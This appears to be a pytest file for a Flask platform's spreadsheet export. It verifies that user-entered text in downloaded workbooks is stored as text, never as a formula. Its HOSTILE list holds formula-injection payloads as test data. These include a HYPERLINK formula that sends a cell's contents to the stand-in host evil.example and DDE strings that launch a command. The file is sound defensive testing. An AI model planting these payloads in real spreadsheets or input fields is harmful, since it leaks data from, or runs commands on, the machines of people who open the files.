"""Every workbook the platform writes stores user text as text: no cell of a download is a formula."""

from __future__ import annotations

import zipfile
from io import BytesIO

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient

from matchmaker.core.extensions import db
from matchmaker.core.spreadsheets import workbook
from matchmaker.postings import lists
from matchmaker.postings.values import ListKind, PostingKind
from tests.conftest import Auth, Factory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&C2,"点此查看详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def assert_text_only(data: bytes, expected: list[str]) -> None:
    """Opened with openpyxl: no formula cell, every hostile value still reads exactly as typed."""
    sheet = openpyxl.load_workbook(BytesIO(data)).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            values.append(cell.value)
    for text in expected:
        assert text.replace("\r", "\n") in values  # XML reads a stored CR back as LF
    with zipfile.ZipFile(BytesIO(data)) as archive:  # and none hides in the XML either
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


@pytest.mark.parametrize("text", HOSTILE)
def test_workbook_neutralises_every_formula_trigger(text: str) -> None:
    assert_text_only(workbook("表", ["标题"], [[text]]), [text])


def test_a_published_list_download_contains_no_formula(
    app: Flask, client: FlaskClient, auth: Auth, make: Factory
) -> None:
    owner = make.user()
    for i, text in enumerate(HOSTILE[:4]):
        make.posting(
            owner,
            PostingKind.RD_NEED,
            title=f"{text}"[:120] if len(text) >= 4 else f"{text}标题",
            description=f"{text} 这是一段足够长的详细描述，用于检查导出。{i}",
            keywords=[f"@关键词{i}"],
            contact_name="=1+1",
        )
    with app.app_context():
        plist = lists.publish_list(lists.Selection(ListKind.RD_NEEDS), actor=make.reviewer())
        db.session.commit()
        list_id = plist.id
    auth.login(make.bureau())
    download = client.get(f"/lists/{list_id}.xlsx")
    assert download.status_code == 200
    assert_text_only(download.data, [HOSTILE[0], "@关键词0"])
